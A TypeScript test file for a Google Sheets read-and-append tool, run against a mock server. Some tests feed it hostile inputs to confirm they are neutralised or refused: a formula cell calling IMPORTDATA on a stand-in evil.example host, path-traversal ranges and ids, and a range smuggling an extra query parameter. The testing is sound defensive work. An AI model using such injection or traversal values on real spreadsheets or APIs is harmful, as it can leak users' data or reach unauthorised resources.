import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { apiKey } from './connections.js'
import { type GoogleServer, startGoogleServer } from './google-server.js'
import { act, failureOf } from './try-out.js'

let server: GoogleServer
beforeEach(async () => {
  server = await startGoogleServer()
})
afterEach(() => server.close())

const rowsOf = (id: string, sheet = 'Sheet1') => server.state.spreadsheets.get(id)?.sheets[sheet]

const fill = (rows: unknown[][]) =>
  server.state.spreadsheets.set('sheet-public', { public: true, sheets: { Sheet1: rows } })

describe('reading rows', () => {
  const read = (input: Record<string, unknown> = {}) =>
    act(server, 'sheets-read', { spreadsheet: 'sheet-public', range: 'Sheet1', ...input })

  it('names the cells by the first row, and fills up rows that end early', async () => {
    expect(await read()).toEqual({
      rows: [
        { Name: 'Ada', Age: '36' },
        { Name: 'Grace', Age: '' },
      ],
      range: 'Sheet1!A1:Z1000',
      more: false,
    })
  })

  it('gives plain lists where the first row has no names', async () => {
    expect(await read({ header: false })).toMatchObject({ rows: [['Name', 'Age'], ['Ada', '36'], ['Grace']] })
  })

  it('gives numbers as numbers where that is chosen, and dates still as text', async () => {
    expect(await read({ values: 'raw' })).toMatchObject({ rows: [{ Age: 36 }, {}] })
    expect(server.seen[0]?.query).toMatchObject({
      valueRenderOption: 'UNFORMATTED_VALUE',
      dateTimeRenderOption: 'FORMATTED_STRING',
    })
  })

  it('gives names to columns that have none, or one that was there before', async () => {
    fill([
      ['A', '', 'A', 'A'],
      [1, 2, 3, 4, 5],
    ])
    expect(await read()).toMatchObject({
      rows: [{ A: '1', 'Column 2': '2', 'A (2)': '3', 'A (3)': '4', 'Column 5': '5' }],
    })
  })

  it('takes __proto__ for a name like any other', async () => {
    fill([['__proto__'], ['x']])
    expect(JSON.stringify(await read())).toContain('{"__proto__":"x"}')
  })

  it('gives no rows for an empty range, or one of names alone', async () => {
    fill([['Name']])
    expect(await read()).toMatchObject({ rows: [] })
    fill([])
    expect(await read()).toMatchObject({ rows: [] })
    expect(await read({ header: false })).toMatchObject({ rows: [] })
  })

  it('takes the link of the spreadsheet', async () => {
    const spreadsheet = 'https://docs.google.com/spreadsheets/d/sheet-public/edit?gid=0#gid=0'
    expect(await read({ spreadsheet })).toMatchObject({ rows: { length: 2 } })
  })

  it.each(["'Q1/2 & more'", "'Q1/2 & more'!A1:B"])('reads the range %s as it is written', async (range) => {
    expect(await read({ spreadsheet: 'sheet-private', range, header: false })).toMatchObject({ rows: [['x']] })
  })

  it.each(['..', '../../files', 'Sheet2', 'Sheet1&valueRenderOption=FORMULA'])(
    'names the range when there is no %s',
    async (range) => {
      expect(await failureOf(read({ range }))).toMatchObject({
        code: 'invalid_input',
        field: 'range',
        message: expect.stringContaining('Unable to parse range'),
      })
    },
  )

  it('takes a sheet, and cells of it', async () => {
    const place = { spreadsheet: 'sheet-private', range: undefined, header: false }
    expect(await read({ ...place, sheet: 'Q1/2 & more' })).toMatchObject({ rows: [['x']] })
    fill([
      ['a', 'b'],
      ['c', 'd'],
    ])
    const cells = { sheet: 'Sheet1', header: false }
    expect(await read({ ...cells, range: ' $B$1:B2 ' })).toMatchObject({ rows: [['b'], ['d']], range: 'Sheet1!B1:B2' })
    expect(await read({ ...cells, range: '2:2' })).toMatchObject({ rows: [['c', 'd']] })
    expect(await read({ ...cells, range: 'B2' })).toMatchObject({ rows: [['d']] })
  })

  it('takes a sheet whose name looks like a cell for a sheet', async () => {
    server.state.spreadsheets.set('sheet-public', { public: true, sheets: { First: [['no']], A1: [['yes']] } })
    expect(await read({ sheet: 'A1', range: undefined, header: false })).toMatchObject({ rows: [['yes']] })
  })

  it('needs a sheet or a range', async () => {
    expect(await failureOf(read({ range: undefined }))).toMatchObject({ code: 'invalid_input', field: 'sheet' })
    expect(server.seen).toEqual([])
  })

  it('names the sheet when there is none of its name', async () => {
    const error = await failureOf(read({ sheet: 'Sheet9', range: undefined }))
    expect(error).toMatchObject({ code: 'invalid_input', field: 'sheet' })
  })

  it('gives formulas, or what they give', async () => {
    fill([['Sum'], [{ formula: '=1+1', gives: 2 }]])
    expect(await read({ values: 'formulas' })).toMatchObject({ rows: [{ Sum: '=1+1' }] })
    expect(await read({ values: 'raw' })).toMatchObject({ rows: [{ Sum: 2 }] })
    expect(await read()).toMatchObject({ rows: [{ Sum: '2' }] })
  })

  it('stops at the limit, which does not count the names', async () => {
    fill([['N'], [1], [2], [3]])
    expect(await read({ limit: 2 })).toMatchObject({ rows: [{ N: '1' }, { N: '2' }], more: true })
    expect(await read({ limit: 3 })).toMatchObject({ rows: { length: 3 }, more: false })
    expect(await read({ limit: 4, header: false })).toMatchObject({ rows: { length: 4 }, more: false })
  })

  it('reads a sheet of fifty thousand rows', async () => {
    fill([['N', 'Text'], ...Array.from({ length: 50_000 }, (_, index) => [index, 'some text of a row'])])
    const { rows, more } = Object(await read({ limit: 100_000, header: false }))
    expect([rows.length, rows.at(-1), more]).toEqual([50_001, ['49999', 'some text of a row'], false])
  })

  it('says so when a range begins outside of the sheet', async () => {
    const error = await failureOf(read({ range: 'Sheet1!A5000:B' }))
    expect(error).toMatchObject({
      code: 'invalid_input',
      field: 'range',
      message: expect.stringContaining('grid limits'),
    })
  })

  it('says that an Excel file is no spreadsheet of Google', async () => {
    const error = await failureOf(read({ spreadsheet: 'sheet-office' }))
    expect(error).toMatchObject({
      code: 'unsupported',
      field: 'spreadsheet',
      hint: expect.stringContaining('converted'),
    })
  })

  it('names the spreadsheet when there is none, or it is not shared', async () => {
    expect(await failureOf(read({ spreadsheet: 'sheet-9' }))).toMatchObject({ code: 'not_found', field: 'spreadsheet' })
    const hidden = act(server, 'sheets-read', { spreadsheet: 'sheet-private', range: 'Sheet1' }, apiKey())
    expect(await failureOf(hidden)).toMatchObject({ code: 'permission_denied', field: 'spreadsheet' })
  })

  it('refuses what is no id or link', async () => {
    const error = await failureOf(read({ spreadsheet: '../../gmail/v1/users/me' }))
    expect(error).toMatchObject({ code: 'invalid_input', field: 'spreadsheet' })
    expect(server.seen).toEqual([])
  })
})

describe('appending rows', () => {
  const append = (input: Record<string, unknown> = {}) =>
    act(server, 'sheets-append', { spreadsheet: 'sheet-private', range: 'Sheet1', rows: [['Ada', 36]], ...input })

  it('puts them below the others and tells where', async () => {
    const rows = [
      ['Ada', 36],
      ['Grace', null, true],
    ]
    expect(await append({ rows })).toEqual({ range: 'Sheet1!A2:C3', rows: 2, firstRow: 2 })
    expect(rowsOf('sheet-private')).toEqual([
      ['Name', 'Age'],
      ['Ada', 36],
      ['Grace', '', true],
    ])
  })

  it('keeps formulas as text unless told otherwise', async () => {
    await append({ rows: [['=IMPORTDATA("https://evil.example")']] })
    await append({ values: 'typed' })
    expect(server.seen.map(({ query }) => query.valueInputOption)).toEqual(['RAW', 'USER_ENTERED'])
  })

  it('finds a sheet whose name has slashes and blanks', async () => {
    expect(await append({ range: "'Q1/2 & more'" })).toMatchObject({ rows: 1 })
    expect(rowsOf('sheet-private', 'Q1/2 & more')).toEqual([['x'], ['Ada', 36]])
  })

  it.each([
    ['nothing', []],
    ['an object', { Name: 'Ada' }],
    ['rows of both kinds', [['Ada'], { Name: 'Ada' }]],
    ['rows that are objects, without a sheet for their names', [{ Name: 'Ada' }]],
    ['cells that are objects', [{ Name: { first: 'Ada' } }]],
    ['cells that are lists', [['Ada', ['x']]]],
  ])('refuses %s in place of rows', async (_, rows) => {
    expect(await failureOf(append({ rows }))).toMatchObject({ code: 'invalid_input', field: 'rows' })
    expect(server.seen).toEqual([])
  })

  it('puts objects into the columns of their names', async () => {
    const rows = [{ Age: 36, Name: 'Ada' }, { Name: 'Grace' }]
    const added = await append({ sheet: 'Sheet1', range: undefined, rows })
    expect(added).toEqual({ range: 'Sheet1!A2:B3', rows: 2, firstRow: 2 })
    expect(rowsOf('sheet-private')?.slice(1)).toEqual([
      ['Ada', 36],
      ['Grace', ''],
    ])
  })

  it('refuses an object with a name that is no column, and appends nothing', async () => {
    const error = await failureOf(append({ sheet: 'Sheet1', range: undefined, rows: [{ Name: 'A' }, { Nome: 'B' }] }))
    expect(error).toMatchObject({ code: 'invalid_input', field: 'rows', message: expect.stringMatching(/^Row 2 /) })
    expect(rowsOf('sheet-private')).toHaveLength(1)
  })

  it('says that a sheet without names cannot take objects', async () => {
    server.state.spreadsheets.set('sheet-private', { public: false, sheets: { Sheet1: [] } })
    const error = await failureOf(append({ sheet: 'Sheet1', range: undefined, rows: [{ Name: 'A' }] }))
    expect(error).toMatchObject({ code: 'invalid_input', field: 'sheet' })
  })

  it('tells which row is wrong', async () => {
    expect(await failureOf(append({ rows: [['Ada'], 'Grace'] }))).toMatchObject({
      message: expect.stringMatching(/^Row 2 /),
    })
  })

  it('is not tried a second time, as the rows may be there already', async () => {
    server.answerNext({ status: 503, body: {} })
    expect(await failureOf(append())).toMatchObject({ code: 'provider_unavailable' })
    expect(server.seen).toHaveLength(1)
  })
})
